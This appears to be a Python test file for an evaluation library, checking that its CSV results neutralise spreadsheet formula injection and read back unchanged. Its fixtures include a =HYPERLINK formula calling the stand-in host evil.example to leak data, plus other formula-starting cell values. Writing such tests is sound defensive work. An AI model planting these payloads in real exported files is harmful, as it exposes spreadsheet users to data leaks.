"""A results folder's CSVs never hand a spreadsheet a formula, and read back unchanged."""

from __future__ import annotations

import csv
import json

import pandas as pd

from cofe import EvalSample, SampleRecord, read_scores, score_run
from cofe._text import FORMULA_START
from cofe.results import spreadsheet_safe
from tests.conftest import ranked

LINK = '=HYPERLINK("http://evil.example/?leak","click")'
IDS = ["=1+1", "+cmd", "-2", "@SUM(A1)", "\tx", "\rx", "'quoted", "plain"]


def _run(make_run):
    samples = [
        EvalSample(
            id=sid,
            query="Which link?",
            coarse_keywords=["report"],
            fine_keywords=[[LINK], ["-40 degrees"]],
            source={"doc": "d1.txt"},
        )
        for sid in IDS
    ]
    text = f"The report says {LINK} and it was -40 degrees."
    records = [
        SampleRecord(sample_id=sid, pool=ranked("c1"), answer=f"{LINK} -40 degrees") for sid in IDS
    ]
    return make_run(samples, {"c1": text}, records, docs={"d1": text})


def _cells(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_formula_cells_are_neutralised_on_disk(make_run, tmp_path):
    result = score_run(_run(make_run))
    out = result.write(tmp_path / "scores")
    for name in ("scores", "points", "skipped", "recalls", "latency"):
        for cell in _cells(out / f"{name}.csv"):
            try:
                float(cell)
                continue  # a number ("-0.5") is a number in a spreadsheet, never a formula
            except ValueError:
                pass
            assert not cell.startswith(FORMULA_START[:-1]), (name, cell)
    points = _cells(out / "points.csv")
    assert "'" + LINK in points and "'-40 degrees" in points
    assert "'=1+1" in _cells(out / "scores.csv") and "''quoted" in _cells(out / "scores.csv")


def test_read_scores_gives_the_formula_like_values_back(make_run, tmp_path):
    result = score_run(_run(make_run))
    back = read_scores(result.write(tmp_path / "scores"))
    for name in ("scores", "points", "verdicts", "skipped", "recalls", "latency"):
        pd.testing.assert_frame_equal(getattr(back, name), getattr(result, name), obj=name)
    assert set(back.scores.sample_id) == set(IDS)
    assert LINK in set(back.points.keywords)


def test_an_older_results_folder_keeps_its_apostrophes(make_run, tmp_path):
    # written before the rule (version 4): a leading apostrophe there is the value's own
    result = score_run(_run(make_run))
    out = result.write(tmp_path / "scores")
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    summary["results_schema_version"] = 4
    (out / "summary.json").write_text(json.dumps(summary), encoding="utf-8")
    assert "''quoted" in set(read_scores(out).scores.sample_id)


def test_comparison_and_sweep_tables_are_neutralised_too():
    frame = pd.DataFrame({"a": [LINK, "plain", None], "n": [-1.5, 2.0, 3.0]})
    safe = spreadsheet_safe(frame)
    assert safe["a"].tolist() == ["'" + LINK, "plain", None]
    assert safe["n"].tolist() == [-1.5, 2.0, 3.0]
    assert frame["a"].iloc[0] == LINK  # the caller's frame is left as it was
